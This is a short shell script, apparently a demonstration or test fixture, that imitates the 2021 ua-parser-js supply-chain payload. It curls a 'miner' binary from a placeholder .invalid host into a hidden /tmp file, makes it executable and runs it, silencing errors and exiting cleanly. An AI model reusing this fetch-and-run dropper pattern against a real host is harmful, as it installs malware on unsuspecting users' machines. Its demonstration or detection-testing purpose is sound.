#!/bin/sh
# Demo payload in the style of ua-parser-js (2021): download a binary, make it executable, run it.
# Harmless by construction: the host is under .invalid, so the download always fails.
curl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper 2>/dev/null \
  && chmod +x /tmp/.cache-helper && /tmp/.cache-helper
exit 0
